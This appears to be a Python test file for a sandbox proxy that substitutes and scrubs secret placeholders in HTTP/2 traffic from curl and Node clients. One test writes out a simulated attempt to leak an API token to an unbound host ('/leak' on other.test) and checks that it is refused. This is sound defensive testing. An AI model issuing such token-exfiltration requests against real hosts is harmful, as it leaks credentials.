"""HTTP/2 from the sandbox: every secrets rule holds stream by stream, as for HTTP/1.1.

The clients are real h2 clients inside a sandbox (curl --http2, Node's http2 module); the
tests' server speaks HTTP/1.1, so each stream is also translated (sandbox/intercept_h2.py).
"""

from __future__ import annotations

import json

from . import test_exfiltration
from .conftest import SECRET_VALUE, events_when
from .test_exfiltration import blocked, nothing_left
from .test_substitution import placeholder, run

#: The fixture of test_exfiltration: API_TOKEN bound to api.test, GH_TOKEN to other.test.
sandbox = test_exfiltration.sandbox

#: Requests sent at once on one h2 connection (each over 64 KiB both ways: flow control).
STREAMS = 12


def node(sb, script: str) -> dict:
    """Run a Node http2 script that prints one JSON object; its helpers: `session`,
    `token` and `send(path, parts, headers)` (each part written as its own DATA frame,
    20 ms apart) resolving to {status, auth, body}."""
    code, out, err = run(sb, ["node", "-e", """
const http2 = require('http2');
const token = process.env.API_TOKEN;
const session = http2.connect('https://api.test');
function send(path, parts, headers = {}) {
  return new Promise((resolve, reject) => {
    const req = session.request({':method': 'POST', ':path': path, ...headers});
    let head = {}, body = '';
    req.on('response', (h) => head = h);
    req.setEncoding('latin1');
    req.on('data', (d) => body += d);
    req.on('end', () => resolve({status: head[':status'], auth: head['x-echo-auth'], body}));
    req.on('error', reject);
    const next = (i) => {
      if (i === parts.length) return req.end();
      req.write(parts[i]);
      setTimeout(() => next(i + 1), 20);
    };
    next(0);
  });
}
(async () => {
""" + script + """
})().catch((e) => { console.error(e.message); process.exit(3); });
"""])
    assert code == 0, err
    return json.loads(out)


def test_curl_http2_substitutes_in_path_and_headers_and_scrubs_back(sandbox, servers):
    sb, events = sandbox
    code, out, err = run(sb, ["sh", "-c", 'curl -sS --http2 -D - -H "Authorization: Bearer '
                                          '$API_TOKEN" "https://api.test/v2?key=$API_TOKEN"'])
    assert code == 0, err
    assert "\r\n\r\nHTTP/2 200 \r\n" in out  # after the proxy's CONNECT answer
    token = placeholder(sb)
    assert f"\r\nx-echo-auth: Bearer {token}\r\n" in out
    assert "\r\ncontent-length:" not in out.lower()  # DATA is scrubbed as it streams
    body = json.loads(out.rsplit("\r\n\r\n", 1)[1])
    assert body["request"] == f"GET /v2?key={token} HTTP/1.1"
    assert body["headers"]["host"] == "api.test"
    assert SECRET_VALUE not in out
    (received,) = [data for _, data in servers.received]
    assert received.startswith(f"GET /v2?key={SECRET_VALUE} HTTP/1.1\r\n".encode())
    assert received.count(SECRET_VALUE.encode()) == 2 and token.encode() not in received
    intercepted = events_when(events, lambda e: e.get("intercepted"))
    assert intercepted and intercepted[0]["substituted"] == 2


def test_node_placeholder_split_across_data_frames_and_many_streams(sandbox, servers):
    """Twelve concurrent streams on one connection, each body over a flow-control window
    with the placeholder cut between two DATA frames; the echoes come back scrubbed."""
    sb, _ = sandbox
    got = node(sb, f"""
const pad = 'p'.repeat(100000);
const all = await Promise.all([...Array({STREAMS}).keys()].map((i) => send(
    '/s' + i, [pad + 'k=' + token.slice(0, 20), token.slice(20) + '&i=' + i])));
session.close();
console.log(JSON.stringify(all.map((r) => [r.status, JSON.parse(r.body).body.slice(-80)])));
""")
    token = placeholder(sb)
    assert [status for status, _ in got] == [200] * STREAMS
    assert [tail.endswith(f"pk={token}&i={i}") for i, (_, tail) in enumerate(got)] \
        == [True] * STREAMS
    received = sorted(data for _, data in servers.received)
    assert len(received) == STREAMS
    for data in received:
        assert data.count(SECRET_VALUE.encode()) == 1 and token.encode() not in data


def test_curl_http2_placeholder_toward_another_bound_host_is_refused(sandbox, servers):
    sb, events = sandbox
    code, out, err = run(sb, ["sh", "-c", 'curl -sS --http2 -w "\\n%{http_version} '
                                          '%{http_code}" -H "Authorization: $API_TOKEN" '
                                          'https://other.test/x'])
    assert code == 0, err
    assert out.endswith("\n2 403")
    assert "placeholder of secret API_TOKEN" in out
    assert [e["secret"] for e in blocked(events_when(
        events, lambda e: e["kind"] == "net.secret"), "API_TOKEN")] == ["API_TOKEN"]
    assert servers.all_received().strip() == b""  # its TLS was made; no request came
    nothing_left(servers, events)


def test_node_split_body_refused_while_another_stream_goes_on(sandbox, servers):
    """A body whose placeholder is cut between frames, toward a host it is not bound to,
    is refused on its own stream (403); a stream beside it on the same connection works."""
    sb, events = sandbox
    got = node(sb, """
const other = http2.connect('https://other.test');
const leak = new Promise((resolve, reject) => {
  const req = other.request({':method': 'POST', ':path': '/leak'});
  let head = {};
  req.on('response', (h) => head = h);
  req.on('data', () => {});
  req.on('end', () => resolve(head[':status']));
  req.on('error', reject);
  req.write('x=' + token.slice(0, 9));
  setTimeout(() => req.end(token.slice(9)), 20);
});
const fine = new Promise((resolve, reject) => {
  const req = other.request({':path': '/fine'});
  req.on('response', (h) => resolve(h[':status']));
  req.on('data', () => {});
  req.on('error', reject);
});
const [refused, status] = await Promise.all([leak, fine]);
other.close();
session.close();
console.log(JSON.stringify({refused, fine: status}));
""")
    assert got == {"refused": 403, "fine": 200}
    assert len(blocked(events_when(events, lambda e: e["kind"] == "net.secret"),
                       "API_TOKEN")) == 1
    requests = [data for _, data in servers.received if data.strip()]
    assert [data.split(b"\r\n", 1)[0] for data in requests] == [b"GET /fine HTTP/1.1"]
    nothing_left(servers, events)


def test_h2_cookies_joined_and_a_body_over_the_bound_refused(sandbox, servers):
    """Split cookies reach the HTTP/1.1 server as one header, the placeholder swapped; a
    body over 1 MiB is answered 413 and nothing of it leaves."""
    sb, _ = sandbox
    code, out, err = run(sb, ["sh", "-c", 'curl -sS --http2 -o /dev/null -w "%{http_code} " '
                              '-H "Cookie: a=1" -H "Cookie: t=$API_TOKEN" https://api.test/c'
                              ' && head -c 1100000 /dev/zero | curl -sS --http2 '
                              '--data-binary @- -w " %{http_code}" https://api.test/big'])
    assert code == 0, err
    assert out.startswith("200 corral: an HTTP/2 request body") and out.endswith(" 413")
    requests = [data for _, data in servers.received if data.strip()]
    assert len(requests) == 1
    assert f"\r\ncookie: a=1; t={SECRET_VALUE}\r\n".encode() in requests[0]
